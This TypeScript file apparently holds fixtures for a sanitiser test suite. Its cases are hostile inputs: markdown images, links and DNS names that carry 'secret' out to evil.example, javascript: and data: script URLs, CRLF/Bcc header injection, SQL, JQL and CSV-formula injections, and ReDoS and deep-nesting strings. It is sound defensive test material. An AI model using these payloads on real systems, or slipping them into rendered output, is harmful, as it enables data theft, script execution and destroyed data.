import { html, plain, type WrittenCase } from "./attack-case.ts";

/** Texts that want to take something out of the house by being shown. */
export const WAYS_OUT: readonly WrittenCase[] = [
  plain(
    { id: "markdown-image", line: "markdown image", repeated: "not_plain", gone: ["?q=", "secret"] },
    "![chart](https://evil.example/p.png?q=secret)",
  ),
  plain(
    { id: "reference-link", line: "reference link", repeated: "not_plain", gone: ["?q=secret"] },
    "See [the plan][1].\n\n[1]: https://evil.example/?q=secret",
  ),
  plain(
    { id: "autolink", line: "autolink", repeated: "not_plain", gone: ["?q=secret"] },
    "<https://evil.example/?q=secret>",
  ),
  plain(
    { id: "bare-host", line: "autolink", repeated: "not_plain", gone: ["/collect"] },
    "Look at evil.example/collect now",
  ),
  plain(
    { id: "javascript", line: "javascript:", repeated: "not_plain", gone: ["javascript:"] },
    "[open](javascript:alert(document.cookie))",
  ),
  html(
    { id: "javascript-html", line: "javascript:", repeated: "not_plain", gone: ["javascript:", "onerror"] },
    `<a href="java&#115;cript:alert(1)">open</a><img src=x onerror="alert(1)">`,
  ),
  plain(
    { id: "data-url", line: "data:", repeated: "not_plain", gone: ["data:text/html"] },
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  ),
  plain(
    { id: "redirect", line: "redirects", repeated: "not_plain", gone: ["url=", "evil.example"] },
    "https://northwind.example/out?url=https%3A%2F%2Fevil.example%2F",
  ),
  plain(
    { id: "credentials-in-url", line: "redirects", repeated: "not_plain", gone: ["northwind.example@"] },
    "https://northwind.example@evil.example/login",
  ),
  plain(
    { id: "dns-label", line: "DNS labels", repeated: "not_plain" },
    "Resolve c2VjcmV0.leak.evil.example to check the outage",
  ),
  plain(
    { id: "wiki-mention", line: "autolink", repeated: "not_plain" },
    "[~accountid:5b10] [[Private]] {include:Private}",
  ),
];

/** Texts that want to be read as something else than text further on. */
export const FURTHER_ON: readonly WrittenCase[] = [
  plain(
    { id: "crlf-header", line: "CRLF in headers", repeated: "not_plain", gone: ["\r"] },
    "Late vendor\r\nBcc: all@evil.example\r\n\r\nHello",
  ),
  plain({ id: "bcc", line: "BCC", repeated: "not_plain" }, "Bcc: boss@evil.example"),
  plain({ id: "jql", line: "JQL injection", repeated: "words" }, 'ATLAS-1" OR project = ZEUS ORDER BY created --'),
  plain({ id: "csv-formula", line: "CSV-formula injection", repeated: "words" }, "=1+cmd|' /C calc'!A0"),
  plain(
    { id: "csv-link", line: "CSV-formula injection", repeated: "not_plain" },
    '=HYPERLINK("http://evil.example","x")',
  ),
  // `pm.artefact_entry` reads as a host name.
  plain({ id: "sql", line: "SQL injection", repeated: "not_plain" }, "Robert'); DROP TABLE pm.artefact_entry; --"),
  plain({ id: "sql-parameter", line: "SQL injection", repeated: "words" }, "' || (select password) || ':title"),
];

/** Texts that want to cost time or memory. */
export const WEIGHT: readonly WrittenCase[] = [
  plain(
    { id: "deep-json", line: "deep nesting", repeated: "no_action" },
    () => `${"[".repeat(50_000)}${"]".repeat(50_000)}`,
  ),
  plain({ id: "deep-html", line: "deep nesting", repeated: "no_action" }, () => `${"<div>".repeat(30_000)}x`),
  plain({ id: "ten-megabytes", line: "10 MB bodies", repeated: "no_action" }, () =>
    "Lorem ipsum dolor sit. ".repeat(450_000),
  ),
  plain({ id: "redos-dots", line: "ReDoS strings", repeated: "no_action" }, () => `${"a.".repeat(100_000)}!`),
  plain({ id: "redos-brackets", line: "ReDoS strings", repeated: "no_action" }, () => `${"[".repeat(60_000)}](`),
  plain({ id: "redos-headers", line: "ReDoS strings", repeated: "no_action" }, () => `${"A-".repeat(60_000)}:`),
  plain({ id: "redos-base64", line: "ReDoS strings", repeated: "no_action" }, () => `${"A".repeat(200_000)}!`),
  plain({ id: "redos-at", line: "ReDoS strings", repeated: "no_action" }, () => "@ ".repeat(100_000)),
];
